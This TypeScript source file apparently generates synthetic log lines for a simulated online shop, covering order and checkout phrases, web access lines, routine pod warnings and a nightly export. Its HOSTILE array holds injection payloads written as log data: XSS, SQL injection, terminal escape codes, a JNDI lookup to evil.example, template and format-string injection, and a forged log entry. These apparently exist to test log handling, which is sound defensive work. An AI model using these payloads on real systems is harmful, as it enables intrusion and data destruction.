import type { LogLevel } from "../../core/telemetry.ts";
import type { Draws } from "./draws.ts";

const GOODS = ["lamp", "rake", "kettle", "bicycle bell", "wool blanket", "tea pot", "garden hose", "oak chair"];
const AGENTS = [
  "Mozilla/5.0 (X11; Linux x86_64) Firefox/148.0",
  "Mozilla/5.0 (iPhone; CPU iPhone OS 19_1) Safari/605.1",
  "Mozilla/5.0 (Windows NT 10.0; Win64) Chrome/156.0",
  "shop-app/8.4 (Android 17)",
];

/** What operations say when they went well, by what `Operation.says` names. */
export const PHRASES: Readonly<Record<string, (draws: Draws) => string>> = {
  products: (d) =>
    `listed ${d.whole(8, 48)} products of page ${d.whole(1, 9)} in ${d.span(1, 30).toFixed(1)} ms, cache ${d.pick(["hit", "miss"])}`,
  product: (d) => `product ${d.whole(1000, 9999)} read (etag "${d.hex(8)}")`,
  search: (d) => `search "${d.pick(GOODS)}" found ${d.whole(0, 120)} in ${d.whole(4, 60)} ms`,
  searched: (d) => `customer searched for '${d.pick(GOODS)}'`,
  reserved: (d) =>
    `reserved ${d.whole(1, 4)} x sku-${d.whole(100, 999)} for order ${d.hex(8)}, ${d.whole(0, 400)} left`,
  "item added": (d) => `cart ${d.hex(8)}: added sku-${d.whole(100, 999)} (${d.whole(1, 12)} items)`,
  authorised: (d) => `charge ${d.hex(8)} authorised by bank, code ${d.whole(100000, 999999)}`,
  charged: (d) => `charged ${d.span(4, 300).toFixed(2)} EUR to card ending in ${d.whole(1000, 9999)}`,
  parcel: (d) => `label 00${d.whole(10_000_000, 99_999_999)} printed for order ${d.hex(8)}`,
  mailed: (d) => `confirmation sent to customer-${d.whole(1, 40_000)}@mail.example, queued as ${d.hex(8)}`,
  "order begun": (d) => `order ${d.hex(8)} begun with ${d.whole(1, 9)} items`,
  "order placed": (d) =>
    JSON.stringify({ event: "order_placed", order: d.hex(8), total: Number(d.span(4, 300).toFixed(2)) }),
  quoted: (d) => `quote for ${d.whole(1, 9)} items: ${d.span(4, 300).toFixed(2)} EUR`,
  bought: (d) => `checkout of session ${d.hex(16)} finished`,
};

/** The line of a request as web servers write it. */
export const accessLine = (
  draws: Draws,
  { method, path, status, ms }: { method: string; path: string; status: number; ms: number },
): string =>
  `10.8.${draws.whole(0, 3)}.${draws.whole(1, 254)} "${method} ${path} HTTP/1.1" ${status} ${draws.whole(200, 9000)} ${ms.toFixed(1)}ms "${draws.pick(AGENTS)}"`;

/** A line that no request causes: how many a minute of each pod, and who says it. */
export interface Murmur {
  readonly perMinute: number;
  readonly level: LogLevel;
  readonly logger: string;
  readonly services?: readonly string[];
  text(draws: Draws): string;
}

/** What pods say of themselves, all the time. */
export const MURMURS: readonly Murmur[] = [
  {
    perMinute: 1,
    level: "debug",
    logger: "health",
    text: (d) => `GET /-/ready 200 ${d.span(0.2, 3).toFixed(2)} ms`,
  },
  {
    perMinute: 0.5,
    level: "info",
    logger: "gc",
    text: (d) =>
      `[gc] pause (young) ${d.whole(100, 400)}M->${d.whole(40, 90)}M(512M) ${d.logNormal(6, 0.5).toFixed(3)}ms`,
  },
  {
    perMinute: 0.2,
    level: "info",
    logger: "pool",
    text: (d) => `pool statistics: active=${d.whole(0, 9)} idle=${d.whole(1, 20)} waiting=${d.pick([0, 0, 0, 1])}`,
  },
  {
    perMinute: 0.06,
    level: "warn",
    logger: "pool",
    text: (d) =>
      `slow query (${d.whole(300, 1400)} ms): SELECT * FROM items WHERE id IN (${d.whole(1, 900)}, ${d.whole(1, 900)})`,
    services: ["catalogue", "stock"],
  },
  {
    perMinute: 0.05,
    level: "warn",
    logger: "auth",
    text: (d) =>
      `token of customer-${d.whole(1, 40_000)} expired at ${new Date(1.76e12 + d.whole(0, 1e9) * 1000).toISOString()}`,
    services: ["frontend", "checkout"],
  },
  {
    perMinute: 0.04,
    level: "warn",
    logger: "http",
    text: (d) =>
      `connection to ${d.pick(["bank", "cart", "stock"])} was reset by peer, retried (attempt ${d.whole(1, 2)} of 3)`,
  },
  {
    perMinute: 0.02,
    level: "warn",
    logger: "disk",
    text: (d) => `volume /var/lib/shop is ${d.whole(70, 84)} % full`,
  },
  {
    perMinute: 0.01,
    level: "warn",
    logger: "tls",
    text: (d) => `certificate of stock.shop.svc ends in ${d.whole(20, 29)} days`,
  },
  {
    perMinute: 0.02,
    level: "warn",
    logger: "config",
    text: (d) => `option "legacy_prices" is deprecated since ${d.whole(1, 3)}.${d.whole(0, 9)}, use "prices"`,
  },
  {
    perMinute: 0.015,
    level: "error",
    logger: "jobs",
    text: (d) =>
      `job refresh-${d.whole(1, 6)} failed: TimeoutError: lock "refresh" is held\n    at acquire (/app/lib/lock.js:${d.whole(20, 90)}:11)\n    at async run (/app/jobs/refresh.js:${d.whole(20, 90)}:5)`,
    services: ["catalogue", "stock", "mail"],
  },
  { perMinute: 0.01, level: "info", logger: "config", text: () => "configuration read again, nothing changed" },
];

/** What customers and scanners have the shop log; a few in an hour. */
export const HOSTILE: readonly ((draws: Draws) => string)[] = [
  (d) => `search "<script>alert(${d.whole(1, 99)})</script>" found 0 in 3 ms`,
  () => 'search "\'; DROP TABLE items; --" found 0 in 2 ms',
  () => "login failed for user \u001B[31madmin\u001B[0m\u0007\u0000 \u202Ereversed",
  (d) => `unknown header authorization: Bearer ${d.hex(40)}`,
  (d) => `could not parse DATABASE_URL postgres://shop:not-a-real-password-${d.hex(8)}@stock-db:5432/stock`,
  (d) => `bad request: body is no JSON: ${"A".repeat(d.whole(9000, 60_000))}`,
  () => "*bold* <@U000> [link](https://evil.example) ${jndi:ldap://evil.example/a} {{7*7}} %s%n",
  () => '{"message":"nested","level":"fatal","@timestamp":"1970-01-01T00:00:00Z"}',
];

/** What the nightly job says, which runs a few minutes at the same time each night. */
export const BATCH: readonly ((draws: Draws) => string)[] = [
  (d) => `nightly export: ${d.whole(1, 90)} of 90 chunks written`,
  (d) => `nightly export: table ${d.pick(["orders", "items", "customers"])} has ${d.whole(1000, 90_000)} rows`,
];
